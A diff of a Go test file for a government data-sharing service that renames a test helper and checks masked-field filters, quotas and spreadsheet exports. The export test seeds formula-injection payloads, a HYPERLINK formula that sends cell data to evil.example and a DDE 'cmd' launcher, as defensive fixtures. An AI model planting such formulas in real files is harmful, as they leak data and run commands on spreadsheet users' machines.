@@ -18,10 +18,10 @@ import (
 	"github.com/xiangyang-gov/sharehub/internal/hub/hubtest"
 )
 
-// reviewItem makes a people item registered for 民政局's app under an
+// registeredItem makes a people item registered for 民政局's app under an
 // unconditional grant of every field ("*": name and sfzh shown masked) and
 // puts records with the given keys and data straight into its dataset.
-func reviewItem(t *testing.T, h *hubtest.Hub, name string, recs map[string]string) catalog.Item {
+func registeredItem(t *testing.T, h *hubtest.Hub, name string, recs map[string]string) catalog.Item {
 	t.Helper()
 	it := peopleItem(t, h, name, catalog.ShareUnconditional)
 	var app exchange.Application
@@ -32,7 +32,7 @@ func reviewItem(t *testing.T, h *hubtest.Hub, name string, recs map[string]strin
 	}
 	for k, data := range recs {
 		if _, err := h.DB.W.ExecContext(context.Background(), `INSERT INTO dataset_records (item_code, record_key, version, hash, deleted, data, run_id, updated_at)
-			VALUES ($1, $2, 1, 1, 0, $3, 'run_review', $4)`, it.Code, k, data, time.Now().UnixMicro()); err != nil {
+			VALUES ($1, $2, 1, 1, 0, $3, 'run_test', $4)`, it.Code, k, data, time.Now().UnixMicro()); err != nil {
 			t.Fatal(err)
 		}
 	}
@@ -47,7 +47,7 @@ func TestDataFilterOnMaskedFieldRefused(t *testing.T) {
 	for _, b := range dbtest.Backends {
 		t.Run(string(b), func(t *testing.T) {
 			h := hubtest.Start(t, b)
-			it := reviewItem(t, h, "人口基础信息（过滤）", map[string]string{
+			it := registeredItem(t, h, "人口基础信息（过滤）", map[string]string{
 				"P1": `{"id":"P1","name":"张三","sfzh":"420602199001010002","address":"襄阳市樊城区1号"}`,
 			})
 			purpose := "X-Purpose: 户籍核验"
@@ -77,7 +77,7 @@ func TestDataRepeatedFilterRefused(t *testing.T) {
 	for _, b := range dbtest.Backends {
 		t.Run(string(b), func(t *testing.T) {
 			h := hubtest.Start(t, b)
-			it := reviewItem(t, h, "人口基础信息（重复）", map[string]string{
+			it := registeredItem(t, h, "人口基础信息（重复）", map[string]string{
 				"P1": `{"id":"P1","address":"a"}`, "P2": `{"id":"P2","address":"b"}`,
 			})
 			p := h.Do(t, "GET", "/v1/data/"+it.Code+"/records?f.id=P1&f.id=P2", h.AppKey, nil, "X-Purpose: 户籍核验").Want(t, http.StatusBadRequest).Problem(t)
@@ -97,7 +97,7 @@ func TestDataExportFormulaInjection(t *testing.T) {
 	for _, b := range dbtest.Backends {
 		t.Run(string(b), func(t *testing.T) {
 			h := hubtest.Start(t, b)
-			it := reviewItem(t, h, "人口基础信息（导出）", map[string]string{
+			it := registeredItem(t, h, "人口基础信息（导出）", map[string]string{
 				"=1+1":  `{"id":"=1+1","address":"=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"}`,
 				"K2":    `{"id":"K2","address":"+cmd|' /C calc'!A0"}`,
 				"K3":    `{"id":"K3","address":"-2+3"}`,
@@ -164,7 +164,7 @@ func TestDataExportFormulaInjection(t *testing.T) {
 func TestDataExportLongValue(t *testing.T) {
 	h := hubtest.Start(t, dbtest.Backends[0])
 	long := strings.Repeat("襄", excelize.TotalCellChars+1)
-	it := reviewItem(t, h, "人口基础信息（长值）", map[string]string{"K1": `{"id":"K1","address":"` + long + `"}`})
+	it := registeredItem(t, h, "人口基础信息（长值）", map[string]string{"K1": `{"id":"K1","address":"` + long + `"}`})
 	purpose := "X-Purpose: 户籍核验"
 	pb := h.Do(t, "GET", "/v1/data/"+it.Code+"/export?format=xlsx&fields=id,address", h.AppKey, nil, purpose).Want(t, http.StatusBadRequest).Problem(t)
 	if d := fmt.Sprint(pb["detail"]); !strings.Contains(d, "address") || !strings.Contains(d, "csv") {
@@ -181,7 +181,7 @@ func TestDataExportLongValue(t *testing.T) {
 // grant's daily quota.
 func TestDataBadRequestKeepsQuota(t *testing.T) {
 	h := hubtest.Start(t, dbtest.Backends[0])
-	it := reviewItem(t, h, "人口基础信息（配额）", map[string]string{"P1": `{"id":"P1","name":"张三","sfzh":"420602199001010002","address":"襄阳市樊城区1号"}`})
+	it := registeredItem(t, h, "人口基础信息（配额）", map[string]string{"P1": `{"id":"P1","name":"张三","sfzh":"420602199001010002","address":"襄阳市樊城区1号"}`})
 	wjw := key(t, h, "xy-wjw", "wjw-quota-app", exchange.RoleApp)
 	h.Do(t, "POST", "/v1/grants", h.Admin, exchange.NewGrant{ConsumerDepartmentID: "xy-wjw", ResourceKind: exchange.ResourceCatalogItem, ResourceID: it.Code,
 		Fields: []string{"id", "address"}, Purpose: "户籍核验", ValidUntil: time.Now().AddDate(0, 1, 0), DailyQuota: 1}).Want(t, http.StatusCreated)
